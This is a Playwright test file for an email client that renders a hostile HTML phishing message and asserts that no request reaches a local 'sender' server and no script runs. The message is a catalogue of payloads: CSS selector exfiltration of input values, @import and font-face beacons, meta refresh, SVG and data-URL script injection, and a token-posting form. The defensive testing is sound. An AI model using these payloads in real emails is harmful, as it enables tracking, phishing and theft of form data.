/**
 * Hostile HTML beyond scripts and remote images, end to end: meta refresh, <link>,
 * @import and @font-face, CSS selectors that exfiltrate form values, srcset,
 * background attributes, inline-style URLs, SVG with script and external references,
 * non-image data: URLs in frames and objects, <base>, media, and forms. The message
 * must render its content with not one request reaching the sender's server (counted
 * there, and in the browser) and no script run.
 */
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { DEFAULT_USERS, startMailServers, type MailServers } from '../support/mail-servers';
import { makeDataDir, startHost, type RunningHost } from '../support/host';
import { fillTestAccount } from '../support/account-form';

const SHOTS = path.resolve(__dirname, '../../test-results/screenshots');
const alice = DEFAULT_USERS[0]!;

let servers: MailServers;
let sender: http.Server;
/** Every path the sender's server was asked for: any entry means the reader leaked a request. */
const hits: string[] = [];
let origin = '';
let host: RunningHost | null = null;

const svgDataImage = (at: string) =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.document.body.dataset.pwned='svg-data'"><image href="${at}/svg-data-image"/></svg>`).toString('base64');

function hostileMessage(at: string): string {
  const html = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${at}/meta-refresh">
<base href="${at}/base/">
<link rel="stylesheet" href="${at}/link-stylesheet">
<link rel="prefetch" href="${at}/link-prefetch">
<link rel="icon" href="${at}/link-icon">
<style>
@import url(${at}/css-import);
@font-face { font-family: leak; src: url(${at}/font-face); }
h1 { font-family: leak; }
input[value^="s"] { background-image: url(${at}/exfil-value-s); }
input[value^="t"] { background-image: url(${at}/exfil-value-t); }
body { background: url(${at}/css-body-background); }
</style>
</head><body>
<h1 id="headline">Security notice</h1>
<p id="body-text">Please confirm your account.</p>
<form id="phish" action="${at}/form-action" method="post"><input name="token" value="secret-token"><button id="phish-submit" type="submit">Confirm</button></form>
<input id="prefilled" value="secret-token">
<img id="srcset" srcset="${at}/srcset-1x 1x, ${at}/srcset-2x 2x" alt="">
<img id="relative" src="relative-pixel.gif" alt="">
<table background="${at}/table-background"><tr><td background="${at}/td-background">cell</td></tr></table>
<div id="inline-style" style="background-image: url('${at}/inline-style')">styled</div>
<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><script>parent.document.body.dataset.pwned='svg-script'</script><image href="${at}/svg-image" width="20" height="20"/><use href="${at}/svg-use#x"/></svg>
<img id="svg-data" src="data:image/svg+xml;base64,${svgDataImage(at)}" alt="">
<iframe src="data:text/html,<script>parent.document.body.dataset.pwned='iframe-data'</script>"></iframe>
<object data="data:text/html,<script>parent.document.body.dataset.pwned='object-data'</script>"></object>
<embed src="${at}/embed">
<video poster="${at}/video-poster" src="${at}/video"></video>
<audio src="${at}/audio" autoplay></audio>
</body></html>`;
  return [
    'From: "Account Team" <security@phish.example>',
    'To: support@example.test',
    'Subject: Security notice: confirm your account',
    `Date: ${new Date(Date.UTC(2026, 10, 21)).toUTCString()}`,
    'Message-ID: <hostile-more@phish.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '',
  ].join('\r\n');
}

test.beforeAll(async () => {
  fs.mkdirSync(SHOTS, { recursive: true });
  sender = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'Content-Type': 'text/plain' }).end('');
  });
  await new Promise<void>((resolve) => sender.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(sender.address() as { port: number }).port}`;
  servers = await startMailServers();
  await servers.deliver(alice.username, hostileMessage(origin));
});

test.afterAll(async () => {
  await host?.stop();
  await servers?.stop();
  sender?.close();
});

test('hostile HTML renders its text with no request to the sender and no script run', async ({ page }) => {
  const browserRequests: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(origin)) browserRequests.push(request.url());
  });
  host = await startHost({ dataDir: makeDataDir() });
  await page.goto(`${host.url}#/mail`);
  await page.getByTestId('add-account-button').first().click();
  await fillTestAccount(page, alice, servers);
  await page.getByTestId('save-account').click();
  await expect(page.getByTestId('account-form')).toBeHidden();

  await page.getByTestId('message-row').filter({ hasText: 'Security notice' }).click();
  const frameElement = page.getByTestId('email-frame');
  const frame = page.frameLocator('[data-testid="email-frame"]');
  await expect(frame.locator('#headline')).toHaveText('Security notice');
  await expect(frame.locator('#body-text')).toHaveText('Please confirm your account.');
  await expect(page.getByTestId('remote-images-blocked')).toBeVisible();

  // Everything the frame would load has been tried once its document is complete and laid out.
  const content = await frameElement.elementHandle().then((e) => e!.contentFrame());
  await content!.waitForFunction(() => document.readyState === 'complete');
  await content!.evaluate(async () => {
    const styled = Array.from(document.querySelectorAll('*')).map((el) => getComputedStyle(el).backgroundImage);
    await document.fonts.ready;
    return styled.length;
  });

  // Not one request reached the sender, counted on its server and in the browser.
  expect(hits).toEqual([]);
  expect(browserRequests).toEqual([]);

  // Nothing that fetches, runs or submits is left: no form to phish with, no selector target to exfiltrate.
  // (The one meta left is the frame's own Content-Security-Policy.)
  expect(await frame.locator('meta[http-equiv]').evaluateAll((metas) => metas.map((m) => m.getAttribute('http-equiv')))).toEqual(['Content-Security-Policy']);
  expect(await frame.locator('script, iframe, object, embed, link, base, audio, video').count()).toBe(0);
  expect(await frame.locator('form, input, button, [srcset], [background], [poster]').count()).toBe(0);
  expect(await frame.locator('svg').count()).toBe(0);
  expect(await page.evaluate(() => document.body.dataset.pwned ?? null)).toBeNull();
  expect(await frameElement.getAttribute('sandbox')).not.toContain('allow-scripts');
  // Still the message: no meta refresh navigated the frame away.
  await expect(frame.locator('#headline')).toHaveText('Security notice');
  await page.screenshot({ path: path.join(SHOTS, '50-hostile-html.png') });
});
